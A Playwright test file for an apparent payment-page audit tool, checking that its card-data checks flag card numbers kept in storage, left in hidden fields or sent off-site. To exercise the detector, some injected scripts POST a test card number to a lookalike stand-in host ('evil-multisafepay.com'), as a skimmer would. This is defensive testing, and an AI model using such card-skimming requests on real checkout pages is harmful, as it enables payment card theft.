import { expect, test, type Page } from '@playwright/test';
import { rowOf, type Row } from '../../../catalogue/index.ts';
import type { Beforehand } from '../../../fixtures/order/last-looks.ts';
import type { PlacedOrder } from '../../../fixtures/order/order.ts';
import { cardDataChecks } from '../../../fixtures/verdict/card-data.ts';
import { Traffic } from '../../../fixtures/witnesses/traffic.ts';

const visa: Row = rowOf('visa-completed').row;
const link = 'https://testpayv2.multisafepay.com/connect/1';
const form = { headers: { 'x-frame-options': 'DENY' }, source: '', kept: [] };

/** What the checks of a card's payment say that is wrong or recorded, after a script has run on its last page. */
async function said(
  page: Page,
  script: string,
  beforehand: readonly Pick<Beforehand, 'headers' | 'source' | 'kept'>[] = [form],
): Promise<string[]> {
  await page.route('**/*', (route) =>
    route.fulfill({ body: '<title>Pay</title>', contentType: 'text/html' }),
  );
  const traffic = new Traffic();
  const release = traffic.watch(page.context());
  await page.goto(link);
  await page.evaluate(script);
  const order = { paymentUrl: link, shopper: page, beforehand, witnesses: { traffic } };
  const checks = await cardDataChecks(order as unknown as PlacedOrder, visa);
  release();
  return checks
    .filter(({ agrees, recorded }) => !agrees || recorded)
    .map(({ field, seen }) => `${field}: ${seen}`);
}

test('what is no number and no code may be kept, shown and sent', async ({ page }) => {
  const script = `
    localStorage.setItem('holder', 'J. de Tester');
    localStorage.setItem('cvc', 'shown');
    sessionStorage.setItem('card', '411111******1111');
    document.cookie = 'bin=411111';
    document.title = 'Visa 1111';
    console.log('the security code has 3 digits');
    fetch('https://collect.example.net/', { method: 'POST', body: 'last4=1111' })`;
  expect(await said(page, script)).toEqual([]);
});

test('a page that may keep nothing is no alarm', async ({ page }) => {
  const frame = `document.body.innerHTML = '<iframe sandbox="allow-scripts" srcdoc="<p>Card"></iframe>'`;
  expect(await said(page, frame)).toEqual([]);
});

test('the number in a request of the same site is recorded, and to another site is wrong', async ({
  page,
}) => {
  const post = (host: string): string =>
    `fetch('https://${host}/', { method: 'POST', body: JSON.stringify({ pan: '4111 1111 1111 1111' }) })`;
  expect(await said(page, post('testpay.multisafepay.com'))).toEqual([
    'requests with card data: POST testpay.multisafepay.com',
  ]);
  await page.unrouteAll();
  expect(await said(page, post('evil-multisafepay.com'))).toEqual([
    'card data sent to another site: POST evil-multisafepay.com: 4111 1111 1111 1111',
    'requests with card data: POST evil-multisafepay.com',
  ]);
});

test('a hidden field is wrong on a later page, and not on the form itself', async ({ page }) => {
  const source = '<input type="hidden" name="raw" value="4111111111111111">';
  const later = { ...form, source };
  expect(await said(page, '1', [form, later])).toEqual([]);
  await page.unrouteAll();
  expect(await said(page, '1', [form, { ...later, headers: {} }])).toEqual([
    'card data in a hidden field: hidden field: 4111111111111111',
  ]);
});

test('how the form helps who fills it in is recorded', async ({ page }) => {
  const source =
    '<input id="pan" type="tel" autocomplete="cc-number" inputmode="numeric"><input type="submit">';
  expect(await said(page, '1', [{ ...form, source }])).toEqual([
    'fields of the card form: pan (tel): autocomplete cc-number, inputmode numeric',
  ]);
});
